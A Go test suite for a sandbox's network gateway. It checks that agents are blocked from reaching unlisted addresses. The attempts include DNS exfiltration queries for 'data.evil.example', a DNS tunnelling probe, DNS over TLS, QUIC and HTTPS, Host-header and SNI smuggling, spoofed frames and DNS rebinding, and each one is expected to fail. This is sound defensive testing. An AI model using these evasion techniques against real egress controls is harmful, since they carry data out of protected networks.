package boot_test

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"osaurus-sandbox/engine"
	"osaurus-sandbox/internal/subnet"
	"osaurus-sandbox/network/networktest"
	"osaurus-sandbox/network/policy"
)

// addressAttempts go to addresses directly, where only names are allowed.
func addressAttempts() []attempt {
	return []attempt{
		{"http http://" + site + "/", "403 "},
		{"http http://" + untold + "/", "403 The sandbox refuses " + untold},
		{"tcp " + untold + ":9000", connectionRefused},
		{"mapped [::ffff:" + untold + "]:9000", connectionRefused},
		{"tcp [2606:4700:4700::1111]:443", "network is unreachable"},
		{"udp " + untold + ":4000", connectionRefused},
		{"udp a.example:443", connectionRefused},    // QUIC
		{"udp " + site + ":4000", "answered: ping"}, // told for a name
		{"ping " + untold, noRoute},
		{"tcp 198.18.77.77:22", noRoute},
	}
}

// leaks asks for names that carry data out. None leaves the gateway.
func (s *gatewaySuite) leaks(t *testing.T) {
	list := []attempt{
		{"http http://a.example/", "200 OK"},
		{"dns udp 8.8.8.8:53 data.evil.example A", "(18 no rule allows data.evil.example)"},
		{"dns tcp 8.8.8.8:53 data.evil.example A", "(18 no rule allows data.evil.example)"},
		{"dns udp " + resolver + " a.example TXT", "NOERROR$"},
		{"dns udp " + resolver + " data.a.example A", "(18 no rule allows data.a.example)"},
		{"tcp 1.1.1.1:853", connectionRefused},           // over TLS
		{"udp 1.1.1.1:853", connectionRefused},           // over QUIC
		{"http https://1.1.1.1/dns-query", accessDenied}, // over HTTPS
		{"http https://evil.example/dns-query", accessDenied},
		{"udp 8.8.8.8:5353", connectionRefused},
	}
	for _, protocol := range []string{"udp", "tcp"} {
		for _, kind := range []string{"TXT", "AAAA", "MX", "SRV", "NS", "CNAME", "NULL", "ANY"} {
			list = append(list, attempt{"dns " + protocol + " " + resolver + " data.evil.example " + kind, "N"})
		}
		list = append(list, attempt{"dns " + protocol + " " + resolver + " 1.64.100.100.in-addr.arpa PTR", "NXDOMAIN"})
	}
	s.try(t, allowAgent, engine.Command{}, list)
	if n := s.world.lookups("evil.example") + s.world.lookups("data.a.example") + s.world.lookups("arpa"); n > 0 || s.world.lookups("a.example") == 0 {
		t.Errorf("%d names left the gateway", n)
	}
}

// serverNameAttempts ask in TLS and HTTP for other names than an address was told for.
func serverNameAttempts() []attempt {
	return []attempt{
		{"tls a.example:443 a.example", "connected: hello a.example"},
		{"tls a.example:443 b.example", accessDenied},
		{"tls a.example:443 -", accessDenied},
		{"tls " + untold + ":443 a.example", accessDenied},
		{"ech a.example:443 b.example a.example", accessDenied},
		{"ech a.example:443 a.example b.example", "server rejected ECH"}, // it arrives at a.example
		{"http http://a.example/ GET b.example", `the program asks for "b.example" at an address of `},
		{"http http://a.example/ GET " + site, "403 "},
	}
}

// formAttempts are requests of each form, to a host that is allowed and to one that is not.
func formAttempts() (list []attempt) {
	send := func(to, text, want string) {
		list = append(list, attempt{"send " + to + ":80 " + url.QueryEscape(strings.ReplaceAll(text, "|", "\r\n")), want})
	}
	const ok, refused = "200 OK", "HTTP/1.1 403 The sandbox refuses"
	for _, form := range []string{
		"GET / HTTP/1.1|Host: %s||", "GET http://%[1]s/ HTTP/1.1|Host: %[1]s||", "POST / HTTP/1.0|Host: %s:80||",
		"GET / HTTP/1.1|Host: %s|Connection: Upgrade|Upgrade: websocket|Sec-WebSocket-Version: 13|Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==||",
		"GET / HTTP/1.1|Host: %s|Connection: Upgrade, HTTP2-Settings|Upgrade: h2c|HTTP2-Settings: AAMAAABkAAQAAP__||",
	} {
		send("a.example", fmt.Sprintf(form, "a.example"), ok)
		send("a.example", fmt.Sprintf(form, "b.example"), refused)
		send("b.example", fmt.Sprintf(form, "b.example"), refused)
		send("b.example", fmt.Sprintf(form, "a.example"), refused)
	}
	send("a.example", "GET http://b.example/ HTTP/1.1|Host: a.example||", refused) // two names
	send("a.example", "CONNECT b.example:443 HTTP/1.1|Host: b.example:443||", refused)
	send("b.example", "CONNECT a.example:443 HTTP/1.1|Host: a.example:443||", refused)
	send("b.example", "PRI * HTTP/2.0||SM||\x00\x00\x00\x04\x00\x00\x00\x00\x00", "EOF$")
	return append(list, []attempt{
		{"http2 http://alone.example/", "200 OK | page of alone.example/ by GET"},
		{"http2 http://alone.example/ GET b.example", "421 Misdirected Request | The sandbox's network gateway refused"},
	}...)
}

// otherRoom sends from the address of a room with a network in one without, also as its root.
func (s *gatewaySuite) otherRoom(t *testing.T) {
	from := []attempt{
		{fmt.Sprintf("from %s %s:9000", s.tenants[openAgent].address, site), "operation not permitted, network is unreachable"},
		{fmt.Sprintf("from %s %s:9000", s.tenants[noneAgent].address, site), connectionRefused},
	}
	s.try(t, noneAgent, engine.Command{}, from)
	s.try(t, noneAgent, engine.Command{RoomRoot: true, Dir: "workspace/agents/dave"}, from)
}

// frames sends what only the guest's root can. None but the last leaves the gateway.
func (s *gatewaySuite) frames(t *testing.T) {
	const target = "93.184.215.77"
	spoofed := []string{"10.0.2.16", "10.0.2.2", "0.0.0.0", "127.0.0.1", "224.0.0.1", "255.255.255.255", "198.18.255.254", "198.18.128.1", "192.0.2.1"}
	const alien = 6
	before := s.home.guest.Gateway().Stats()
	var out bytes.Buffer
	exit, err := s.home.guest.Client.Run(t.Context(), engine.Command{
		Args:   slices.Concat([]string{"sh", "-c", `cp /workspace/agents/alice/intruder /tmp/intruder && /tmp/intruder frames "$@"`, "sh", subnet.GatewayMAC, subnet.Guest().Addr().String(), target}, spoofed),
		Stdout: &out, Stderr: &out, Timeout: probePatience,
	})
	if want := 3 + alien + len(spoofed) + 1; err != nil || exit.Status() != 0 || strings.Count(out.String(), " ok\n") != want {
		t.Fatalf("%+v %v\n%s", exit, err, &out)
	}
	dialed := func(port uint16) bool {
		return slices.Contains(s.world.Dials(), networktest.Dial{Protocol: policy.UDP, To: netip.AddrPortFrom(netip.MustParseAddr(target), port)})
	}
	for began := time.Now(); !dialed(4000); time.Sleep(time.Millisecond) {
		if time.Since(began) > patience {
			t.Fatal("a datagram of the guest does not arrive")
		}
	}
	after := s.home.guest.Gateway().Stats()
	if dialed(4001) {
		t.Error("a frame that the guest's root made up left the gateway")
	}
	if n := after.Link.Spoofed - before.Link.Spoofed; n != uint64(len(spoofed)) || after.Link.Alien-before.Link.Alien < alien {
		t.Errorf("from %+v to %+v", before, after)
	}
}

// forgotten connects to an address that was told long ago.
func (s *gatewaySuite) forgotten(t *testing.T) {
	toAddress, byName := "tcp "+site+":9000", attempt{"http http://a.example/", "200 OK"}
	s.try(t, allowAgent, engine.Command{}, []attempt{byName, {toAddress, "connected: hello"}})
	s.world.ahead.Add(int64(11 * time.Minute))
	s.try(t, allowAgent, engine.Command{}, []attempt{{toAddress, connectionRefused}, byName, {toAddress, "connected: hello"}})
}

// rebinding has names change to other addresses after they were told.
func (s *gatewaySuite) rebinding(t *testing.T) {
	ok := []attempt{{"http http://rebind.example/", "200 OK"}}
	s.try(t, openAgent, engine.Command{}, ok)
	for addr, why := range map[string]string{private: "local networks are closed", cloud: "link-local addresses", "127.0.0.1": "this computer is closed", "10.0.2.2": "this computer is closed", "0.0.0.0": "this computer is closed"} {
		s.world.name("rebind.example", addr)
		s.try(t, openAgent, engine.Command{}, []attempt{{"http http://rebind.example/", why}, {"tcp rebind.example:22", connectionRefused}})
		if t.Failed() {
			return
		}
	}
	s.world.name("rebind.example", site)
	s.try(t, openAgent, engine.Command{}, ok)
}

// tunnel checks that names carry little out.
func (s *gatewaySuite) tunnel(t *testing.T) {
	const names = 400
	said := s.probe(t, openAgent, engine.Command{}, []attempt{{try: fmt.Sprintf("tunnel %s tunnel.example %d", resolver, names)}})
	answered := -1
	if len(said) == 1 {
		_, _ = fmt.Sscanf(said[0], "answered %d of", &answered)
	}
	out := s.world.lookups("tunnel.example")
	if answered < 20 || answered > names/2 || out > answered {
		t.Errorf("%q, and %d names left this computer", said, out)
	}
	s.try(t, openAgent, engine.Command{}, []attempt{{"http http://a.example/", "200 OK"}}) // other domains are not slowed down
}

// revoked ends an open connection when a rule denies it.
func (s *gatewaySuite) revoked(t *testing.T) {
	said, out := io.Pipe()
	p, err := s.tenants[openAgent].Exec(t.Context(), engine.Command{
		Args: []string{"./intruder", "probe"}, Stdin: strings.NewReader("stay revoked.example:9100\n"), Stdout: out, Stderr: out, Timeout: probePatience,
	})
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		_, err := p.Wait()
		out.CloseWithError(err)
	}()
	lines := bufio.NewScanner(said)
	if !lines.Scan() || lines.Text() != "connected: hello" {
		t.Fatalf("it said %q, %v", lines.Text(), lines.Err())
	}
	s.world.extra.Store(openAgent, mustRule("deny revoked.example"))
	s.home.guest.Gateway().Recheck(openAgent)
	if !lines.Scan() || lines.Text() != "ended" {
		t.Errorf("it said %q, %v", lines.Text(), lines.Err())
	}
	s.try(t, openAgent, engine.Command{}, []attempt{{"http http://revoked.example/", `the rule "deny revoked.example" denies it`}})
}
